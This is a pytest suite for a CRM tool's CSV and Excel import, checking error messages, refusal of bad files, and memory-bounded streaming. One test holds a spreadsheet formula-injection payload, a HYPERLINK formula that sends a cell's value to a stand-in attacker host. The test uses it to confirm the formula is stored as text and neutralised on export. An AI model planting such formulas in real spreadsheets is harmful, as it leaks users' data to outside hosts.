"""Bad input to `crm import` (issue 8), each case its own test: a clear message naming the
file (and the row and column where there is one), a non-zero exit, and nothing written —
or, for a formula in a cell, the text kept inert and neutralised again on export. A 200,000-
row file streams: the importer's peak memory hardly grows with the file's length.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from .conftest import crm, crm_measured
from .test_import import ENV, csv_file, records

NOTHING_WRITTEN = "nothing was imported"


@pytest.fixture
def untouched(workspace):
    """The base workspace, and a check that a failed import left every file as it was."""
    root = workspace()
    before = {p: p.read_bytes() for p in root.rglob("*.yaml")}

    def same() -> bool:
        return {p: p.read_bytes() for p in root.rglob("*.yaml")} == before

    return root, same


def test_ragged_rows_are_reported_by_row_and_nothing_is_written(untouched, tmp_path):
    root, same = untouched
    table = csv_file(
        tmp_path,
        """
        name,client,amount
        Good,acme,100
        Too many,acme,100,extra
        Too few,acme
        Trailing empty cells are fine,acme,100,,
        """,
    )

    run = crm("-C", root, "import", "opportunities", table, env=ENV, cwd=tmp_path)

    assert run.returncode == 1
    lines = [line for line in run.stderr.splitlines() if "error[" in line]
    assert lines == [
        "rows.csv:3:1: error[ragged-row]: row 3: the row has 4 cells but the header has 3; fix "
        "the row (a missing or extra delimiter, or an unquoted line break?)",
        "rows.csv:4:1: error[ragged-row]: row 4: the row has 2 cells but the header has 3; fix "
        "the row (a missing or extra delimiter, or an unquoted line break?)",
    ]
    assert "nothing was written: 2 rows rejected" in run.stderr
    assert same()


def test_an_empty_file_is_refused(untouched, tmp_path):
    root, same = untouched
    table = tmp_path / "empty.csv"
    table.write_bytes(b"")

    run = crm("-C", root, "import", "clients", table, env=ENV)

    assert run.returncode == 1
    assert f"{table}: the file is empty: no header row, no rows; {NOTHING_WRITTEN}" in run.stderr
    assert "Traceback" not in run.stderr
    assert same()


def test_a_file_of_blank_lines_is_refused(untouched, tmp_path):
    root, same = untouched
    table = csv_file(tmp_path, "\r\n\r\n  \r\n")

    run = crm("-C", root, "import", "clients", table, env=ENV)

    assert run.returncode == 1
    assert "the file holds only empty lines: no header row" in run.stderr
    assert same()


def test_a_header_only_file_is_refused(untouched, tmp_path):
    root, same = untouched
    table = csv_file(tmp_path, "name,email\r\n")

    run = crm("-C", root, "import", "clients", table, env=ENV)

    assert run.returncode == 1
    assert f"{table}: the file has a header but no rows; {NOTHING_WRITTEN}" in run.stderr
    assert same()


def test_a_binary_file_named_csv_is_refused(untouched, tmp_path):
    root, same = untouched
    table = tmp_path / "photo.csv"
    table.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8)

    run = crm("-C", root, "import", "clients", table, env=ENV)

    assert run.returncode == 1
    assert (
        f"{table}: this is binary data, not CSV text (a zero byte at byte 8); {NOTHING_WRITTEN}"
    ) in run.stderr
    assert same()


def test_an_excel_workbook_named_csv_is_refused_with_a_hint(untouched, tmp_path):
    from openpyxl import Workbook

    root, same = untouched
    workbook = Workbook()
    workbook.active.append(["name"])
    workbook.active.append(["Initech"])
    table = tmp_path / "clients.csv"
    workbook.save(table)

    run = crm("-C", root, "import", "clients", table, env=ENV)

    assert run.returncode == 1
    assert "this is a zip file, not CSV text (an Excel workbook? name it .xlsx)" in run.stderr
    assert same()


def test_a_text_file_named_xlsx_is_refused(untouched, tmp_path):
    root, same = untouched
    table = tmp_path / "clients.xlsx"
    table.write_text("name\nInitech\n", encoding="utf-8")

    run = crm("-C", root, "import", "clients", table, env=ENV)

    assert run.returncode == 1
    assert f"{table}: this is not an Excel workbook (.xlsx); {NOTHING_WRITTEN}" in run.stderr
    assert same()


def test_a_formula_in_a_cell_is_kept_as_inert_text_and_neutralised_on_export(workspace, tmp_path):
    from openpyxl import load_workbook

    root = workspace()
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    table = tmp_path / "rows.csv"
    table.write_text(
        f'name,client,description\nDeal,acme,"{payload.replace(chr(34), 2 * chr(34))}"\n'
    )

    run = crm("-C", root, "import", "opportunities", table, env=ENV, cwd=tmp_path)

    assert run.returncode == 0, run.stderr
    assert "rows.csv:2:3: warning[formula-like]: row 2, column “description”:" in run.stderr
    assert "looks like a spreadsheet formula; it is kept as text" in run.stderr
    assert records(root, "opportunities")["deal"]["description"] == payload
    exported = crm(
        "-C", root, "export", "opportunities", "--format", "csv", "--dialect", "rfc4180", env=ENV
    )
    assert f',"\'{payload.replace(chr(34), 2 * chr(34))}"' in exported.stdout
    sheet = tmp_path / "deals.xlsx"
    assert (
        crm("-C", root, "export", "opportunities", "-f", "xlsx", "-o", sheet, env=ENV).returncode
        == 0
    )
    header, *rows = (list(row) for row in load_workbook(sheet).active.iter_rows())
    deal = dict(
        zip([c.value for c in header], next(r for r in rows if r[1].value == "Deal"), strict=True)
    )
    cell = deal["description"]
    assert cell.data_type == "s"  # text, never a formula
    assert cell.value == "'" + payload


def test_a_reference_matching_two_records_is_reported_as_ambiguous(workspace, tmp_path):
    root = workspace({"clients/globex.yaml": "name: Globex\nlist: Clients\n",
                      "clients/globex-2.yaml": "name: GLOBEX\nlist: Clients\n"})  # fmt: skip
    table = csv_file(tmp_path, "name,client\nBrand book,Globex\nSite,acme\n")

    run = crm("-C", root, "import", "opportunities", table, env=ENV, cwd=tmp_path)

    assert run.returncode == 1
    assert (
        "rows.csv:2:2: error[unresolved-reference]: row 2, column “client”: client: several "
        "Clients are named “Globex”: globex, globex-2; give the id"
    ) in run.stderr
    assert "nothing was written: 1 row rejected" in run.stderr
    assert list(records(root, "opportunities")) == ["acme-website"]


# a long file streams


def measured_import(root: Path, table: Path) -> tuple[str, float]:
    """`crm import --dry-run` in a subprocess: its summary and own peak RSS (MB)."""
    run = crm_measured("-C", root, "import", "clients", table, "--dry-run", env=ENV, timeout=600)
    assert run.returncode == 0, run.stderr
    return run.stdout.splitlines()[-1], run.peak_mb


def long_file(path: Path, rows: int) -> Path:
    """Rows that each become a record: an id (so no slug is computed) and a name."""
    with path.open("w", encoding="utf-8") as out:
        out.write("id,name\n")
        for number in range(rows):
            out.write(
                f"client-{number:06d},Client {number:06d} — Société à responsabilité limitée\n"
            )
    return path


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="peak memory from /proc (Linux)")
@pytest.mark.slow
def test_a_200000_row_file_streams_in_bounded_memory(workspace, tmp_path):
    root = workspace({"clients/_project.yaml": "name: Clients\ndefaults: {remove: [list, tags, "
                      "assignee, due, description, checklist, depends_on, created, updated, "
                      "history]}\n"})  # fmt: skip
    short = long_file(tmp_path / "short.csv", 20_000)
    long = long_file(tmp_path / "long.csv", 200_000)

    short_summary, short_peak = measured_import(root, short)
    long_summary, long_peak = measured_import(root, long)

    assert "20,000 rows read" in short_summary and "20,000 created" in short_summary
    assert "200,000 rows read" in long_summary and "200,000 created" in long_summary
    # 10× the rows (16 MB more CSV): rows are read one at a time and the rendered records
    # spooled to a temp file; what grows is the ids taken and the keys seen (~0.2 KB a row,
    # ~40 MB here). Holding the rows or the records would take hundreds of MB.
    assert long_peak - short_peak < 70, (short_peak, long_peak)
    assert long.stat().st_size > 12_000_000
